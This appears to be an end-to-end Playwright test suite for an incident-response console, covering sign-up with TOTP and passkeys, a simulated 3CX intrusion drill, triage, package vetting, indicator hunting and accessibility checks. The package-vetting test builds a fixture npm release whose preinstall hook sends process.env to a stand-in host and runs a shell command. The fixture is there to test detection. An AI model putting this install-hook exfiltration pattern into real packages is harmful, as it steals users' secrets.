import { readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import AxeBuilder from '@axe-core/playwright'
import { TOTP } from 'otpauth'
import type { Browser, BrowserContext, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { builtConsole } from '../scripts/console.ts'
import { openBrowser } from './support/browser.ts'
import { run, temporaryFolder } from './support/cli.ts'
import { packTarball } from './support/pack.ts'
import { type ServedWorkspace, serveWorkspace } from './support/serve.ts'

const password = 'seven green lanterns over the harbour'

let browser: Browser
let context: BrowserContext
let page: Page
let service: ServedWorkspace
let totp: TOTP
const folder = temporaryFolder()
const said: string[] = []

/** What the browser complains of: errors, and everything that the content policy refused. */
function listen(to: Page): void {
  to.on('console', (message) => message.type() === 'error' && !/status of 40[0-9]/.test(message.text()) && said.push(message.text()))
  to.on('pageerror', (error) => said.push(error.message))
}

beforeAll(async () => {
  builtConsole()
  const evidence = join(folder.path, 'evidence')
  await run('drill', evidence, '--case', '3cx', '--hosts', '40', '--days', '40')
  service = await serveWorkspace(join(folder.path, 'workspace'))
  browser = await openBrowser()
  context = await browser.newContext({ viewport: { width: 1440, height: 900 }, colorScheme: 'light' })
  page = await context.newPage()
  page.setDefaultTimeout(20_000)
  listen(page)
}, 300_000)

afterAll(async () => {
  await browser?.close()
  await service?.[Symbol.asyncDispose]()
  folder[Symbol.dispose]()
})

function heading(name: string | RegExp) {
  return page.getByRole('heading', { name, level: 1 })
}

describe('the console, from the first start on', () => {
  test('is set up with the link that the service printed, and asks for a second factor', async () => {
    await page.goto(service.setUp ?? '')
    await page.getByLabel('Your name').fill('Anna Berg')
    // The secret of the link stays in no history.
    expect(page.url()).not.toContain('#')
    await page.getByLabel('E-mail address').fill('anna@bank.invalid')
    await page.getByLabel('Password', { exact: true }).fill(password)
    await page.getByRole('button', { name: 'Go on to the second factor' }).click()
    await page.getByRole('button', { name: 'Use an authenticator app' }).click()
    const secret = (await page.locator('.secret').textContent())?.replaceAll(' ', '') ?? ''
    totp = new TOTP({ secret })
    await page.getByLabel('Code from the authenticator').fill(totp.generate())
    await page.getByRole('button', { name: 'Confirm' }).click()
    await page.getByRole('button', { name: 'Show my recovery codes' }).click()
    await page.locator('.recovery-codes').waitFor()
    expect(await page.locator('.recovery-codes li').count()).toBe(10)
    await page.getByLabel(/I have put them/).check()
    await page.getByRole('button', { name: 'Go on' }).click()
    await heading('Overview').waitFor()
    await page.getByText('Nothing is known yet').waitFor()
  })

  test('takes a passkey that knows its person, and signs in with it alone', async () => {
    const devtools = await context.newCDPSession(page)
    await devtools.send('WebAuthn.enable')
    const options = { protocol: 'ctap2', transport: 'internal', hasResidentKey: true, hasUserVerification: true, isUserVerified: true } as const
    await devtools.send('WebAuthn.addVirtualAuthenticator', { options: { ...options, automaticPresenceSimulation: true } })
    await page.goto(`${service.url}/settings?part=account`)
    await page.getByRole('button', { name: 'Add a passkey' }).click()
    await page.getByLabel('Name of the passkey').fill('Test key')
    await page.getByRole('button', { name: 'Make a passkey' }).click()
    await page.getByText('Test key').waitFor()
    await page.getByRole('button', { name: /Anna Berg/ }).click()
    await page.getByRole('menuitem', { name: 'Sign out' }).click()
    await heading('Sign in').waitFor()
    await page.getByRole('button', { name: 'Sign in with a passkey' }).click()
    await heading('Overview').waitFor()
  })

  test('reads the drill as a job that survives a reload, and names the culprit', async () => {
    await page.goto(`${service.url}/evidence?part=jobs`)
    await page.getByLabel('Folder where the service runs').fill(join(folder.path, 'evidence'))
    await page.getByRole('button', { name: 'Read this folder' }).click()
    await page.waitForURL(/job=/)
    await page.reload()
    await page.getByText('succeeded').first().waitFor({ timeout: 240_000 })
    await page.goto(service.url)
    await page.getByRole('region', { name: 'Verdict' }).getByText('HIT').waitFor()
    await page
      .getByRole('link', { name: /3CX Desktop App 18\.12\.416/ })
      .first()
      .click()
    await heading(/3CX Desktop App 18\.12\.416/).waitFor()
    for (const part of ['What happened', 'Timeline', 'Why we believe it, and what would make it innocent', 'Scope', 'Do now', 'Evidence', 'History']) {
      await page.getByRole('heading', { name: part, level: 2, exact: true }).waitFor()
    }
    await page
      .getByRole('img', { name: /has it|who has what/ })
      .first()
      .waitFor()
  })

  test('triages an incident, and shows who was faster instead of overwriting', async () => {
    await page.getByLabel('State').selectOption('Investigating')
    await page
      .getByText(/Investigating|investigating/)
      .first()
      .waitFor()
    const other = await context.newPage()
    listen(other)
    await other.goto(page.url())
    await other.getByLabel('Assignee').selectOption({ label: 'Anna Berg (me)' })
    await other
      .getByRole('listitem')
      .filter({ hasText: /assigned|Anna Berg/i })
      .first()
      .waitFor()
    await other.close()
    await page.getByLabel('State').selectOption('Contained')
    await page.getByText('Somebody changed it meanwhile').waitFor()
    await page.getByRole('button', { name: /Set contained all the same/ }).click()
    await page.getByText('Somebody changed it meanwhile').waitFor({ state: 'hidden' })
    await page.getByLabel('Comment').fill('Isolated the two hosts.')
    await page.getByRole('button', { name: 'Add the comment' }).click()
    await page.getByRole('listitem').filter({ hasText: 'Isolated the two hosts.' }).waitFor()
  })

  test('writes a warning for others after the second factor, and shows first what would leave', async () => {
    await page.getByRole('button', { name: /Write a warning/ }).click()
    await page.getByRole('button', { name: 'Show what would leave' }).click()
    const save = page.getByRole('button', { name: /^Save .*html/ })
    await save.waitFor({ timeout: 120_000 })
    const download = page.waitForEvent('download')
    await save.click()
    const path = await (await download).path()
    expect(readFileSync(path, 'utf8')).toContain('3CX')
    await page.keyboard.press('Escape')
  })

  test('vets a release against the one before it', async () => {
    const manifest = (version: string, scripts: object) => JSON.stringify({ name: 'left-lantern', version, main: 'index.js', scripts })
    const files = { 'package/index.js': 'module.exports = (text) => text.trim()\n' }
    const before = join(folder.path, 'left-lantern-1.0.0.tgz')
    const now = join(folder.path, 'left-lantern-1.0.1.tgz')
    writeFileSync(before, packTarball({ ...files, 'package/package.json': manifest('1.0.0', {}) }))
    const stealer =
      "const cp = require('child_process'); const https = require('https'); https.get('https://drop.invalid/' + Buffer.from(JSON.stringify(process.env)).toString('base64'), () => cp.exec('id'))\n"
    writeFileSync(now, packTarball({ ...files, 'package/setup.js': stealer, 'package/package.json': manifest('1.0.1', { preinstall: 'node setup.js' }) }))
    await page.goto(`${service.url}/software/vetted`)
    await page.getByLabel('Choose the release', { exact: true }).last().setInputFiles(now)
    await page.getByLabel('Choose the one before').last().setInputFiles(before)
    await page.getByRole('button', { name: 'Vet it' }).click()
    await page.getByRole('link', { name: 'What came of it' }).click({ timeout: 180_000 })
    await heading('left-lantern 1.0.1').waitFor()
    await page
      .getByRole('region', { name: 'Verdict' })
      .getByText(/HOLD|BLOCK/)
      .waitFor()
    await page.getByRole('img', { name: /setup\.js/ }).waitFor()
  })

  test('hunts for what a warning names', async () => {
    await page.goto(`${service.url}/hunt`)
    await page.getByText('Paste the text of a warning').click()
    await page
      .getByLabel('Text of the warning')
      .fill('Indicators of the 3CX intrusion\n\nCommand and control: akamaicontainer[.]invalid, officestoragebox[.]invalid\n')
    await page.getByRole('button', { name: 'Hunt', exact: true }).click()
    await page.getByRole('link', { name: 'What came of it' }).click({ timeout: 180_000 })
    await page.getByRole('region', { name: 'Verdict' }).getByText('HIT').waitFor()
  })

  test('finds anything by name, goes by keyboard, and pivots in one step', async () => {
    await page.goto(`${service.url}/incidents/findings`)
    await page.getByRole('table', { name: 'Findings' }).waitFor()
    await page.keyboard.press('j')
    await page.keyboard.press('j')
    expect(new URL(page.url()).searchParams.get('at')).not.toBeNull()
    expect(
      await page
        .locator('tr[aria-current="true"] a')
        .first()
        .evaluate((link) => link === document.activeElement),
    ).toBe(true)
    await page.keyboard.press('Enter')
    await page.waitForURL(/findings\//)
    await page.locator('main .entity-link').first().click()
    await page.waitForURL(/\/entity\//)
    await page.keyboard.press('?')
    await page.getByRole('dialog', { name: 'Keyboard' }).waitFor()
    await page.keyboard.press('Escape')
    await page.keyboard.press('Control+k')
    await page.getByLabel('Search').fill('3CX')
    await page.getByRole('button', { name: /3CX/ }).first().waitFor()
    await page.keyboard.press('Escape')
  })

  test('is without violations of WCAG 2.2 AA on every page in both themes, and nothing is wider than a telephone', async () => {
    const incident = await page.evaluate(async () => (await (await fetch('/api/v1/incidents?limit=1')).json()).items[0].id as string)
    const finding = await page.evaluate(async () => (await (await fetch('/api/v1/findings?limit=1')).json()).items[0].id as string)
    const paths = [
      '/',
      '/incidents',
      `/incidents/${incident}`,
      '/incidents/findings',
      `/incidents/findings/${finding}`,
      '/hunt',
      '/hunt/rows',
      '/software',
      '/software/vetted',
      '/posture',
      '/evidence',
      '/evidence?part=gaps',
      '/evidence?part=analyses',
      '/evidence?part=formats',
      '/evidence?part=jobs',
      '/settings',
      '/entity/software/3CX%20Desktop%20App',
    ]
    const found: string[] = []
    for (const colorScheme of ['light', 'dark'] as const) {
      await page.emulateMedia({ colorScheme })
      for (const path of paths) {
        await page.goto(service.url + path)
        await heading(/./).waitFor()
        await page
          .getByText('…', { exact: false })
          .and(page.getByRole('status'))
          .waitFor({ state: 'detached' })
          .catch(() => {})
        const { violations } = await new AxeBuilder({ page }).withTags(['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'wcag22aa', 'best-practice']).analyze()
        found.push(...violations.map(({ id, nodes }) => `${path} (${colorScheme}): ${id} at ${nodes[0]?.target.join(' ')}`))
      }
    }
    await page.setViewportSize({ width: 390, height: 844 })
    for (const path of paths) {
      await page.goto(service.url + path)
      await heading(/./).waitFor()
      const width = await page.evaluate(() => document.documentElement.scrollWidth)
      if (width > 390) found.push(`${path}: ${width} pixels wide`)
    }
    expect(found).toEqual([])
  }, 300_000)

  test('asked for nothing that the content policy refuses, and met no error', () => {
    expect(said).toEqual([])
  })
})
